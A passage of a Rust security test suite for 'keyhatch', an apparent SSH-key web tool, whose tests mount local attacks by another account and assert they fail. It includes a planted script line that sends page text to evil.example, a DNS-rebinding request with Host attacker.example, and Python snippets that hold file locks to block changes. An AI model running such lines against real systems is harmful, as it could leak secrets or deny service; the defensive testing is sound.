//! Local mode against an attacker with another account on the same node: each test mounts one
//! attack on the real binary and shows it failing.

use std::fs;
use std::io::{Read, Write};
use std::os::unix::net::UnixStream;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::helpers::{
    self, Account, TOKEN, form_id, shown_key_fingerprint, spawn_app, spawn_app_at, spawn_app_in,
    spawn_app_with,
};

mod after_logout;
mod fuse;
mod health_check;
mod idle_connections;
mod login_link;
mod own_address;
mod settings_dirs;
mod socket_names;
mod socket_path;

/// The session cookie a fresh login link sets, as `name=value`.
fn log_in(app: &helpers::App) -> String {
    let login = app.get(&format!("/ssh-keys{}", &app.login_path()[1..]), &[]);
    assert_eq!(login.status, 303, "{}", login.body);
    let set = login.header("set-cookie").to_owned();
    set.split(';').next().unwrap().to_owned()
}

#[test]
fn the_cookie_a_page_on_another_port_collects_is_no_token_and_useless_elsewhere() {
    let home = tempfile::tempdir().unwrap();
    let app = spawn_app(home.path());
    // What a browser sends with every request to 127.0.0.1, whatever the port: another
    // account's server on 127.0.0.1:8888 collects exactly this.
    let collected = log_in(&app);
    let (name, value) = collected.split_once('=').unwrap();
    assert_eq!(name, format!("keyhatch_session_{}", app.port));
    assert!(!value.contains(TOKEN) && value.len() == 64, "{collected}");

    let as_bearer = app.get(
        "/api/keys/list",
        &[("Authorization", &format!("Bearer {value}"))],
    );
    assert_eq!(as_bearer.status, 401, "a session id is not the token");

    let stranger = Account::create();
    let replayed = stranger.http(
        app.port,
        &format!("GET /api/keys/list HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {collected}\r\nConnection: close\r\n\r\n"),
    );
    assert!(replayed.starts_with("HTTP/1.1 403"), "{replayed}");

    assert_eq!(
        app.get("/api/keys/list", &[("Cookie", &collected)]).status,
        200
    );
    let logout = app.post_form("/logout", &[("Cookie", &collected)]);
    assert_eq!(logout.status, 200, "{}", logout.body);
    assert!(logout.header("set-cookie").contains("Max-Age=0"));
    assert_eq!(
        app.get("/api/keys/list", &[("Cookie", &collected)]).status,
        401,
        "the session ended with Log out"
    );
}

#[test]
fn another_account_with_the_right_token_is_refused_on_tcp() {
    let home = tempfile::tempdir().unwrap();
    let app = spawn_app(home.path());
    let stranger = Account::create();
    let answer = stranger.http(
        app.port,
        "GET /api/keys/list HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer $KH_TOKEN\r\nConnection: close\r\n\r\n",
    );
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert!(answer.contains("Not your keyhatch"), "{answer}");
    assert_eq!(
        app.get_authorized("/api/keys/list").status,
        200,
        "its own account passes"
    );
}

#[test]
fn requests_from_other_sites_and_foreign_hosts_are_refused() {
    let home = tempfile::tempdir().unwrap();
    let app = spawn_app(home.path());
    let bearer = format!("Bearer {TOKEN}");
    let generate = |headers: &[(&str, &str)], content_type: &str| {
        let mut all = vec![
            ("Authorization", bearer.as_str()),
            ("Content-Type", content_type),
        ];
        all.extend_from_slice(headers);
        app.post("/api/keys/generate", "{}", &all)
    };
    assert_eq!(generate(&[], "text/plain").status, 415, "a simple request");
    assert_eq!(
        generate(&[("Origin", "http://127.0.0.1:8888")], "application/json").status,
        403
    );
    assert_eq!(
        generate(&[("Sec-Fetch-Site", "same-site")], "application/json").status,
        403
    );
    assert_eq!(
        generate(&[("Origin", "null")], "application/json").status,
        403
    );
    assert_eq!(
        app.get_authorized("/api/keys/generate").status,
        405,
        "GET changes nothing"
    );
    let rebound = app.raw(&format!(
        "GET /api/keys/list HTTP/1.1\r\nHost: attacker.example:{}\r\nAuthorization: {bearer}\r\nConnection: close\r\n\r\n",
        app.port
    ));
    assert!(
        rebound.starts_with("HTTP/1.1 403"),
        "DNS rebinding: {rebound}"
    );
    assert!(!home.path().join(".ssh").exists(), "nothing was generated");

    let same_origin = format!("http://127.0.0.1:{}", app.port);
    let ok = generate(
        &[("Origin", &same_origin), ("Sec-Fetch-Site", "same-origin")],
        "application/json",
    );
    assert_eq!(ok.status, 200, "{}", ok.body);
}

#[test]
fn every_answer_carries_the_security_headers_and_the_page_its_nonce() {
    let home = tempfile::tempdir().unwrap();
    let app = spawn_app(home.path());
    let cookie = log_in(&app);
    let page = app.get("/ssh-keys", &[("Cookie", &cookie)]);
    let unauthorized = app.get("/ssh-keys", &[]);
    let redirect = app.get("/", &[("Cookie", &cookie)]);
    let api = app.get_authorized("/api/keys/list");
    for (what, reply) in [
        ("page", &page),
        ("401", &unauthorized),
        ("303", &redirect),
        ("api", &api),
    ] {
        let csp = reply.header("content-security-policy");
        for part in [
            "default-src 'self'",
            "'wasm-unsafe-eval'",
            "object-src 'none'",
            "base-uri 'none'",
            "frame-ancestors 'none'",
            "form-action 'self'",
        ] {
            assert!(csp.contains(part), "{what}: {csp}");
        }
        assert_eq!(reply.header("x-content-type-options"), "nosniff", "{what}");
        assert_eq!(reply.header("referrer-policy"), "same-origin", "{what}");
        assert_eq!(reply.header("cache-control"), "no-store", "{what}");
    }
    let csp = page.header("content-security-policy");
    let nonce = csp
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .expect("the page's policy has a nonce");
    assert!(
        page.body.contains(&format!("nonce=\"{nonce}\"")),
        "{}",
        page.body
    );
    let other = app.get("/ssh-keys", &[("Cookie", &cookie)]);
    assert!(
        !other.header("content-security-policy").contains(nonce),
        "a nonce is used once"
    );
}

#[test]
fn settings_and_scripts_planted_in_the_working_directory_are_ignored() {
    let home = tempfile::tempdir().unwrap();
    let planted = tempfile::tempdir().unwrap();
    let evil_token = "planted-token-0123456789abcdef-0123456789";
    fs::write(
        planted.path().join("Leptos.toml"),
        format!(
            "[keyhatch]\ntoken = \"{evil_token}\"\nkey-options = \"command=\\\"/tmp/evil\\\"\"\n"
        ),
    )
    .unwrap();
    fs::create_dir_all(planted.path().join("target/site/pkg")).unwrap();
    let script = "fetch('http://evil.example/?k=' + document.body.innerText)";
    fs::write(planted.path().join("target/site/pkg/keyhatch.js"), script).unwrap();
    fs::create_dir_all(planted.path().join("site/pkg")).unwrap();
    fs::write(planted.path().join("site/pkg/keyhatch.js"), script).unwrap();

    let app = spawn_app_in(
        home.path(),
        planted.path(),
        &[],
        &[("KEYHATCH_TOKEN", TOKEN)],
    );
    let planted_login = app.get(&format!("/?token={evil_token}"), &[]);
    assert_eq!(
        planted_login.status, 401,
        "the planted token does not log in"
    );
    let js = app.get_authorized("/pkg/keyhatch.js");
    assert!(
        !js.body.contains("evil.example"),
        "the planted script was served"
    );
    let key = app.generate(None);
    let line = fs::read_to_string(app.authorized_keys()).unwrap();
    assert!(line.starts_with("restrict,pty ssh-ed25519 "), "{line}");
    assert!(key["private_key"].is_string());
}

#[test]
fn a_settings_file_another_account_can_write_is_refused_with_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("keyhatch.toml");
    fs::write(&config, "[keyhatch]\n").unwrap();
    fs::set_permissions(&config, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_keyhatch"))
        .arg("--config")
        .arg(&config)
        .args(["--addr", "127.0.0.1:0", "--home"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let err = String::from_utf8_lossy(&output.stderr);
    assert!(err.contains("group or others can write it"), "{err}");
}

#[test]
fn a_short_token_a_remote_address_and_another_accounts_home_are_refused_at_start() {
    let home = tempfile::tempdir().unwrap();
    let run = |args: &[&str], env: &[(&str, &str)]| {
        let output = Command::new(env!("CARGO_BIN_EXE_keyhatch"))
            .args(args)
            .env("KEYHATCH_TOKEN", TOKEN)
            .env("KEYHATCH_CONFIG", "none")
            .envs(env.iter().copied())
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(2), "{args:?} started");
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    let home_arg = home.path().to_str().unwrap();
    let err = run(&["--home", home_arg], &[("KEYHATCH_TOKEN", "short-token")]);
    assert!(err.contains("at least 32"), "{err}");
    let err = run(&["--home", home_arg, "--addr", "0.0.0.0:0"], &[]);
    assert!(err.contains("--allow-remote"), "{err}");
    let err = run(
        &[
            "--home",
            home_arg,
            "--authorized-keys-file",
            "/etc/ssh/keys/%u",
        ],
        &[],
    );
    assert!(err.contains("below the home"), "{err}");

    let stranger = Account::create();
    std::os::unix::fs::chown(home.path(), Some(stranger.uid), None).unwrap();
    let err = run(&["--home", home_arg, "--addr", "127.0.0.1:0"], &[]);
    assert!(
        err.contains("site mode") && err.contains(&stranger.uid.to_string()),
        "{err}"
    );
}

/// Where keyhatch cannot lock `~/.ssh` (here: others can read it), it waits for the file's own
/// lock, within `lock-timeout`.
#[test]
fn a_lock_held_by_another_program_fails_generates_within_the_bound_and_lists_still_answer() {
    use std::os::unix::fs::PermissionsExt;

    let home = helpers::home_with(b"");
    let ssh = home.path().join(".ssh");
    fs::set_permissions(&ssh, fs::Permissions::from_mode(0o755)).unwrap();
    let app = spawn_app_with(home.path(), &[("KEYHATCH_LOCK_TIMEOUT", "1")]);
    // Anyone who can read the file can take a shared lock on it.
    let mut holder = Command::new("python3")
        .args([
            "-c",
            "import fcntl,sys; f=open(sys.argv[1]); fcntl.lockf(f, fcntl.LOCK_SH); print('held', flush=True); sys.stdin.read()",
        ])
        .arg(app.authorized_keys())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut held = [0u8; 5];
    holder
        .stdout
        .as_mut()
        .unwrap()
        .read_exact(&mut held)
        .unwrap();

    let started = Instant::now();
    let statuses: Vec<(u16, String)> = std::thread::scope(|s| {
        let generates: Vec<_> = (0..50)
            .map(|_| {
                s.spawn(|| {
                    let reply = app.post_json("/api/keys/generate", "{}");
                    (reply.status, reply.body)
                })
            })
            .collect();
        let list = app.get_authorized("/api/keys/list");
        assert_eq!(list.status, 200, "the list answers while the lock is held");
        generates.into_iter().map(|g| g.join().unwrap()).collect()
    });
    let took = started.elapsed();
    // The first to reach the file says what to do; the others timed out behind it.
    assert!(
        statuses.iter().any(|(_, body)| body.contains("chmod 700")),
        "{statuses:?}"
    );
    for (status, body) in &statuses {
        assert_eq!(*status, 503, "{body}");
        assert!(body.contains("locked by another program"), "{body}");
        assert!(!body.contains("PRIVATE KEY"));
    }
    assert!(
        took < Duration::from_secs(8),
        "50 refusals took {took:?} with a 1 s bound"
    );
    assert_eq!(fs::read(app.authorized_keys()).unwrap(), b"");

    holder.stdin.take().unwrap().write_all(b"done").unwrap();
    holder.wait().unwrap();
    app.generate(None);
}

/// Red team: with `~/.ssh` 0711 and the file 0644 (sshd takes both), another account held a
/// read lock on the file, and every change, a revoke of a stolen key among them, failed for as
/// long as it liked; the person's `fuser` could not see who. keyhatch's lock is the directory's
/// where only the person can open it; where others can read it too, the refusal says to make it
/// private, after which the change goes through.
#[test]
fn another_accounts_lock_on_a_file_it_can_read_holds_no_change_back() {
    use std::os::unix::fs::PermissionsExt;

    let mode = |path: &std::path::Path, mode: u32| {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    };
    let home = helpers::home_with(b"");
    let (ssh, file) = (
        home.path().join(".ssh"),
        home.path().join(".ssh/authorized_keys"),
    );
    mode(home.path(), 0o711);
    mode(&ssh, 0o711);
    mode(&file, 0o644);
    let app = spawn_app_with(home.path(), &[("KEYHATCH_LOCK_TIMEOUT", "1")]);
    let stolen = app.generate(None)["info"]["fingerprint"].clone();
    let mallory = Account::create();
    let _held = mallory.hold_read_lock(&file);

    assert_eq!(app.post_json("/api/keys/generate", "{}").status, 200);

    // A ~/.ssh others can read cannot be locked: the file's lock is waited for, and the
    // refusal says what to do.
    mode(&ssh, 0o755);
    let refused = app.post_json("/api/keys/generate", "{}");
    assert_eq!(refused.status, 503, "{}", refused.body);
    assert!(
        refused.body.contains("may be another account's") && refused.body.contains("chmod 700"),
        "{}",
        refused.body
    );
    mode(&ssh, 0o700);
    let body = serde_json::json!({ "fingerprint": stolen }).to_string();
    let revoked = app.post_json("/api/keys/revoke", &body);
    assert_eq!(revoked.status, 200, "{}", revoked.body);
    let listed = app.get_authorized("/api/keys/list").json();
    assert_eq!(listed["keys"].as_array().unwrap().len(), 1, "{listed}");
}

/// Red team: another account opened `~/.ssh` while it was 0755, and took its lock once the person
/// had made it private, as keyhatch says to: every change waited `lock-timeout` and failed with
/// "find the program that holds it (fuser or lsof)", which the person's `fuser` could not. The
/// refusal now says whose it may be and how to get out of it, and that way out works.
#[test]
fn another_accounts_lock_on_a_private_ssh_it_opened_before_is_named_with_the_way_out() {
    use std::io::{BufRead, BufReader};
    use std::os::unix::fs::PermissionsExt;

    let mode = |path: &std::path::Path, mode: u32| {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    };
    let home = helpers::home_with(b"");
    let ssh = home.path().join(".ssh");
    mode(home.path(), 0o711);
    mode(&ssh, 0o755);
    let app = spawn_app_with(home.path(), &[("KEYHATCH_LOCK_TIMEOUT", "1")]);
    let mallory = Account::create();
    let program = "import fcntl,os,sys; d=os.open(sys.argv[1], os.O_RDONLY|os.O_DIRECTORY); \
                   print('opened', flush=True); sys.stdin.readline(); fcntl.flock(d, fcntl.LOCK_EX); \
                   print('held', flush=True); sys.stdin.read()";
    let mut holder = mallory
        .command("/usr/bin/python3")
        .args(["-c", program, ssh.to_str().unwrap()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut said = BufReader::new(holder.stdout.take().unwrap());
    let mut line = String::new();
    said.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "opened");
    mode(&ssh, 0o700);
    holder.stdin.as_mut().unwrap().write_all(b"go\n").unwrap();
    line.clear();
    said.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "held");
    let _holder = helpers::LockHolder(holder);

    let refused = app.post_json("/api/keys/generate", "{}");
    assert_eq!(refused.status, 503, "{}", refused.body);
    assert!(
        refused.body.contains("not one of yours"),
        "{}",
        refused.body
    );
    // The way out the refusal gives: a new ~/.ssh.
    let held = home.path().join(".ssh.held");
    fs::rename(&ssh, &held).unwrap();
    fs::create_dir(&ssh).unwrap();
    mode(&ssh, 0o700);
    fs::copy(held.join("authorized_keys"), ssh.join("authorized_keys")).unwrap();
    assert_eq!(app.post_json("/api/keys/generate", "{}").status, 200);
}

#[test]
fn the_unix_socket_is_private_and_serves_only_its_own_account() {
    let home = tempfile::tempdir().unwrap();
    let runtime = tempfile::tempdir().unwrap();
    let socket = runtime.path().join("keyhatch.sock");
    let app = helpers::spawn_socket_app(home.path(), &socket);
    let meta = fs::metadata(&socket).unwrap();
    assert_eq!(
        std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o777,
        0o600
    );
    let own = over_socket(
        &socket,
        "GET /api/keys/list HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer TOKEN\r\nConnection: close\r\n\r\n",
    );
    assert!(own.starts_with("HTTP/1.1 200"), "{own}");

    // Even with the socket opened up, SO_PEERCRED tells the other account apart.
    fs::set_permissions(&socket, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
    fs::set_permissions(
        runtime.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let stranger = Account::create();
    let answer = stranger.python(
        "import socket,sys,os; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); \
         s.sendall(('GET /api/keys/list HTTP/1.1\\r\\nHost: localhost\\r\\nAuthorization: Bearer '+os.environ['KH_TOKEN']+'\\r\\nConnection: close\\r\\n\\r\\n').encode()); \
         print(s.recv(100).decode(errors='replace'))",
        &[socket.to_str().unwrap()],
    );
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    drop(app);
}

fn over_socket(socket: &std::path::Path, request: &str) -> String {
    let mut stream = UnixStream::connect(socket).unwrap();
    stream
        .write_all(request.replace("TOKEN", TOKEN).as_bytes())
        .unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer
}

#[test]
fn the_login_link_is_also_in_private_files_that_curl_can_use_and_a_stop_removes() {
    use std::os::unix::fs::PermissionsExt;

    let home = tempfile::tempdir().unwrap();
    let app = spawn_app(home.path());
    let dir = app.runtime.path().join("keyhatch");
    let url = dir.join(format!("login-{}.url", app.port));
    let header = dir.join(format!("login-{}.header", app.port));
    let mode = |p: &std::path::Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(
        (mode(&dir), mode(&url), mode(&header)),
        (0o700, 0o600, 0o600)
    );
    // The link printed at start (it works once), and the scripts' credential beside it.
    let link = fs::read_to_string(&url).unwrap();
    let origin = link.split("/?token=").next().unwrap();
    let label = origin
        .strip_prefix("http://k")
        .and_then(|rest| rest.strip_suffix(&format!(".localhost:{}", app.port)))
        .unwrap_or_else(|| panic!("{link}"));
    assert!(
        label.len() == 32 && label.bytes().all(|b| b.is_ascii_hexdigit()),
        "{link}"
    );
    assert!(!link.contains(TOKEN), "{link}");
    assert_eq!(
        fs::read_to_string(&header).unwrap(),
        format!("Authorization: Bearer {TOKEN}\n")
    );
    let listed = Command::new("curl")
        .args(["-s", "-H"])
        .arg(format!("@{}", header.display()))
        .arg(format!("{}/api/keys/list", app.base))
        .output()
        .unwrap();
    let listed = String::from_utf8_lossy(&listed.stdout);
    assert!(listed.contains("\"keys\":[]"), "{listed}");

    let runtime = app.stop();
    assert!(
        !runtime
            .path()
            .join("keyhatch")
            .join(url.file_name().unwrap())
            .exists()
    );
    assert!(
        !runtime
            .path()
            .join("keyhatch")
            .join(header.file_name().unwrap())
            .exists()
    );
}

#[test]
fn the_audit_log_records_logins_changes_and_refusals_without_secrets() {
    let home = tempfile::tempdir().unwrap();
    let logs = tempfile::tempdir().unwrap();
    let audit = logs.path().join("audit.log");
    let app = spawn_app_with(
        home.path(),
        &[("KEYHATCH_AUDIT_LOG", audit.to_str().unwrap())],
    );
    let cookie = log_in(&app);
    let key = app.generate(Some("audit passphrase 1"));
    let fingerprint = key["info"]["fingerprint"].as_str().unwrap();
    let body = serde_json::json!({ "fingerprint": fingerprint }).to_string();
    assert_eq!(app.post_json("/api/keys/revoke", &body).status, 200);
    let stranger = Account::create();
    stranger.http(
        app.port,
        "GET /ssh-keys HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    );
    app.post(
        "/api/keys/generate",
        "{}",
        &[
            ("Content-Type", "application/json"),
            ("Origin", "http://evil.example"),
        ],
    );
    drop(app);

    let text = fs::read_to_string(&audit).unwrap();
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let actions: Vec<(&str, &str)> = lines
        .iter()
        .map(|l| {
            (
                l["action"].as_str().unwrap(),
                l["outcome"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        actions,
        [
            ("link", "ok"),
            ("login", "ok"),
            ("generate", "ok"),
            ("revoke", "ok"),
            (
                "refused",
                &*format!("another account (uid {})", stranger.uid)
            ),
            ("refused", "cross-origin request"),
        ]
    );
    assert_eq!(lines[2]["fingerprint"], fingerprint);
    assert_eq!(lines[3]["fingerprint"], fingerprint);
    assert!(
        lines
            .iter()
            .all(|l| l["account"] == "root" && l["time"].is_string())
    );
    for secret in [
        "PRIVATE KEY",
        "audit passphrase 1",
        TOKEN,
        cookie.split('=').nth(1).unwrap(),
    ] {
        assert!(!text.contains(secret), "the audit log holds {secret:?}");
    }
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&fs::metadata(&audit).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn a_refused_request_with_a_body_leaves_the_connection_usable() {
    let home = tempfile::tempdir().unwrap();
    let app = spawn_app(home.path());
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", app.port)).unwrap();
    // Not logged in (401), then cross-site (403), then a good request, on one connection. The
    // body is larger than what the server reads along with the headers, so a refusal that left
    // it unread would close the connection.
    let body = format!("{{\"passphrase\":\"{}\"}}", "x".repeat(40_000));
    let refused = [
        String::new(),
        format!("Authorization: Bearer {TOKEN}\r\nOrigin: http://evil.example\r\n"),
    ];
    for extra in &refused {
        write!(
            stream,
            "POST /api/keys/generate HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n{extra}Content-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .unwrap();
    }
    write!(
        stream,
        "GET /api/keys/list HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    // Bodies end without a newline, so find each status line by its start.
    let statuses: Vec<&str> = answer
        .match_indices("HTTP/1.1 ")
        .map(|(at, _)| answer[at..].lines().next().unwrap())
        .collect();
    assert_eq!(
        statuses,
        [
            "HTTP/1.1 401 Unauthorized",
            "HTTP/1.1 403 Forbidden",
            "HTTP/1.1 200 OK"
        ],
        "{answer}"
    );
}

#[test]
fn the_page_takes_its_forms_only_from_its_own_page() {
    let home = tempfile::tempdir().unwrap();
    let app = spawn_app(home.path());
    let bearer = format!("Bearer {TOKEN}");
    let form = "intent=generate&form_id=0123456789abcdef0123456789abcdef&label=form&passphrase=\
                &passphrase_confirm=&expires_in_days=";
    let post = |extra: &[(&str, &str)], content_type: &str| {
        let mut headers = vec![
            ("Authorization", bearer.as_str()),
            ("Content-Type", content_type),
        ];
        headers.extend_from_slice(extra);
        app.post("/ssh-keys", form, &headers)
    };
    let urlencoded = "application/x-www-form-urlencoded";
    // A request that names no origin is a script (or a browser too old to trust): refused.
    assert_eq!(post(&[], urlencoded).status, 403);
    // Another site's form, by either header a browser sends.
    assert_eq!(
        post(&[("Sec-Fetch-Site", "cross-site")], urlencoded).status,
        403
    );
    assert_eq!(
        post(&[("Origin", "http://evil.example")], urlencoded).status,
        403
    );
    // Not a form at all.
    assert_eq!(
        post(&[("Sec-Fetch-Site", "same-origin")], "text/plain").status,
        415
    );
    assert!(
        !app.authorized_keys().exists(),
        "a refused form wrote a key"
    );

    // From its own page: the key, once, in an answer that runs no code and is never stored.
    let own = post(&[("Sec-Fetch-Site", "same-origin")], urlencoded);
    assert_eq!(own.status, 200, "{}", own.body);
    assert_eq!(own.header("cache-control"), "no-store");
    assert!(
        own.body.contains(r#"aria-label="Private key""#),
        "{}",
        own.body
    );
    assert!(own.body.contains("cannot be shown again"));
    // The page's code is not loaded, and no script holds the key (the only scripts are
    // Leptos's inert data for the lists).
    assert!(!own.body.contains("keyhatch.js"), "{}", own.body);
    let scripts: Vec<&str> = own.body.split("<script").skip(1).collect();
    assert!(
        scripts
            .iter()
            .all(|s| !s.split("</script>").next().unwrap().contains("OPENSSH")),
        "a script holds the key: {}",
        own.body
    );
    let file = fs::read_to_string(app.authorized_keys()).unwrap();
    assert_eq!(file.lines().count(), 1);
    assert!(file.trim_end().ends_with(" fileglancer form"), "{file}");
}

#[test]
fn a_generate_form_sent_again_makes_no_second_key() {
    let home = tempfile::tempdir().unwrap();
    let app = spawn_app(home.path());
    let bearer = format!("Bearer {TOKEN}");
    let headers = [
        ("Authorization", bearer.as_str()),
        ("Sec-Fetch-Site", "same-origin"),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    let dialog = app.get("/ssh-keys?dialog=generate", &headers[..2]);
    let id = form_id(&dialog.body).to_owned();
    let form = format!("intent=generate&form_id={id}&label=&passphrase=&passphrase_confirm=");

    let first = app.post("/ssh-keys", &form, &headers);
    assert_eq!(first.status, 200, "{}", first.body);
    let file = fs::read_to_string(app.authorized_keys()).unwrap();
    assert_eq!(file.lines().count(), 1);
    let listed = app.get("/api/keys/list", &headers[..1]).json();
    let fingerprint = listed["keys"][0]["fingerprint"]
        .as_str()
        .unwrap()
        .to_owned();
    // The answer shows the private half of the key now in the file.
    assert_eq!(
        shown_key_fingerprint(&first.body),
        Some(fingerprint.clone())
    );

    // The same form again (a reload of the answer, a browser's own retry): refused, naming the
    // key it made; the file and the key shown once are as they were.
    let again = app.post("/ssh-keys", &form, &headers);
    // Checked first, and without printing the answer: a failure must not print a key.
    assert_eq!(
        shown_key_fingerprint(&again.body),
        None,
        "a resent form showed a key (status {})",
        again.status
    );
    assert_eq!(again.status, 409, "{}", again.body);
    assert!(
        again.body.contains("this form was sent already"),
        "{}",
        again.body
    );
    assert!(again.body.contains(&fingerprint), "{}", again.body);
    assert_eq!(fs::read_to_string(app.authorized_keys()).unwrap(), file);
    // The answer opens the dialog again with a new form, which makes a new key.
    let next = form_id(&again.body);
    assert_ne!(next, id);
    let form = format!("intent=generate&form_id={next}&passphrase=&passphrase_confirm=");
    assert_eq!(app.post("/ssh-keys", &form, &headers).status, 200);
    let file = fs::read_to_string(app.authorized_keys()).unwrap();
    assert_eq!(file.lines().count(), 2);

    // A form with no id (a page from before, or made by hand) makes nothing, and says so.
    let bare = app.post(
        "/ssh-keys",
        "intent=generate&passphrase=&passphrase_confirm=",
        &headers,
    );
    assert_eq!(bare.status, 400, "{}", bare.body);
    assert!(
        bare.body.contains("this form is from an older page"),
        "{}",
        bare.body
    );
    assert_eq!(fs::read_to_string(app.authorized_keys()).unwrap(), file);
}

/// The attack: the owner runs a copy of keyhatch from a shared directory (`/tmp/x/keyhatch`,
/// `/scratch/x/keyhatch`); another account plants `../site` beside it, a browser bundle whose
/// script adds its own key, and a page of its own. Whatever is planted, keyhatch serves only
/// the bundle compiled into it: its origin never carries another account's script.
#[test]
fn a_bundle_planted_beside_a_copied_binary_is_never_served() {
    const PLANTED: &str = "planted-by-another-account";
    let shared = tempfile::tempdir().unwrap();
    fs::create_dir_all(shared.path().join("x")).unwrap();
    fs::create_dir_all(shared.path().join("site/pkg")).unwrap();
    let binary = shared.path().join("x/keyhatch");
    fs::copy(env!("CARGO_BIN_EXE_keyhatch"), &binary).unwrap();
    for file in [
        "pkg/keyhatch.js",
        "pkg/keyhatch.wasm",
        "pkg/keyhatch.css",
        "evil.html",
    ] {
        fs::write(
            shared.path().join("site").join(file),
            format!("/* {PLANTED} */"),
        )
        .unwrap();
    }
    let home = helpers::home_with(b"");
    let app = helpers::spawn_binary(&binary, home.path());
    let session = log_in(&app);
    for path in [
        "/evil.html",
        "/pkg/keyhatch.js",
        "/pkg/keyhatch.css",
        "/ssh-keys",
    ] {
        let answer = app.get(path, &[("cookie", &session)]);
        assert!(
            !answer.body.contains(PLANTED),
            "{path} served the planted file"
        );
    }
    let page = app.get("/evil.html", &[("cookie", &session)]);
    assert_eq!(page.status, 404, "{}", page.body);
    // A miss under /pkg/ is a plain page, not the app with the account in it, and never kept.
    let miss = app.get("/pkg/nothing-here.js", &[("cookie", &session)]);
    assert_eq!(miss.status, 404);
    assert_eq!(miss.header("cache-control"), "no-store");
    assert!(!miss.body.contains("<header"), "{}", miss.body);
}

/// The attack (red team): another account listens on `[::1]:PORT` beside the owner's keyhatch
/// on `127.0.0.1:PORT`. Browsers (and `ssh -L 3000:localhost:3000`) resolve `localhost` to
/// `::1` first, so the owner's login link would go to the squatter. keyhatch holds both
/// loopbacks of its port, or refuses to start, saying why.
#[test]
fn a_squatter_on_the_other_loopback_of_keyhatchs_port_stops_it_at_start() {
    let squatter = std::net::TcpListener::bind("[::1]:0").unwrap();
    let port = squatter.local_addr().unwrap().port();
    let home = tempfile::tempdir().unwrap();
    let (code, err) = helpers::exit_of(
        Command::new(env!("CARGO_BIN_EXE_keyhatch"))
            .args(["--addr", &format!("127.0.0.1:{port}"), "--home"])
            .arg(home.path())
            .env("KEYHATCH_TOKEN", TOKEN)
            .env("KEYHATCH_CONFIG", "none"),
    );
    assert_eq!(
        code,
        Some(1),
        "keyhatch beside a squatter on [::1]:{port}: {err}"
    );
    assert!(
        err.contains(&format!("[::1]:{port}")) && err.contains("localhost"),
        "{err}"
    );
    drop(squatter);

    // Started on a free port, it holds that port's IPv6 loopback too: nobody can squat it.
    let app = spawn_app(home.path());
    let taken = std::net::TcpListener::bind(("::1", app.port));
    assert!(
        taken.is_err(),
        "[::1]:{} was free beside keyhatch",
        app.port
    );
    let answer = std::net::TcpStream::connect(("::1", app.port)).and_then(|mut stream| {
        let request = format!(
            "GET /healthz HTTP/1.1\r\nHost: localhost:{}\r\nConnection: close\r\n\r\n",
            app.port
        );
        stream.write_all(request.as_bytes())?;
        let mut answer = String::new();
        stream.read_to_string(&mut answer)?;
        Ok(answer)
    });
    assert!(
        answer.unwrap().starts_with("HTTP/1.1 200"),
        "keyhatch answers on [::1]"
    );
}

/// Red team (helper-64): keyhatch on `--addr 127.0.0.2:PORT` held that address and `[::1]`,
/// and printed its login link at `k….localhost:PORT`, which leads to 127.0.0.1: another
/// account listening there received the link, at this start's own origin. A loopback address
/// other than 127.0.0.1 and [::1] is refused, saying why.
#[test]
fn a_loopback_address_the_login_link_does_not_lead_to_is_refused() {
    let home = tempfile::tempdir().unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_keyhatch"));
    command
        .args(["--addr", "127.0.0.2:0", "--home"])
        .arg(home.path())
        .env("KEYHATCH_TOKEN", TOKEN)
        .env("KEYHATCH_CONFIG", "none");
    let (code, err) = helpers::exit_of(&mut command);
    assert_eq!(code, Some(1), "keyhatch started on 127.0.0.2: {err}");
    assert!(
        err.contains("on loopback keyhatch listens on 127.0.0.1 and [::1]"),
        "{err}"
    );
}

/// Red team (helper-49): another account held keyhatch's port while keyhatch was down, and a
/// service worker it served there, at `http://127.0.0.1:PORT`, took the next login link the
/// person opened and made a key for itself. Each start's links open an origin of its own,
/// `http://k<32 hex>.localhost:PORT`, which nobody can have served before; the page is
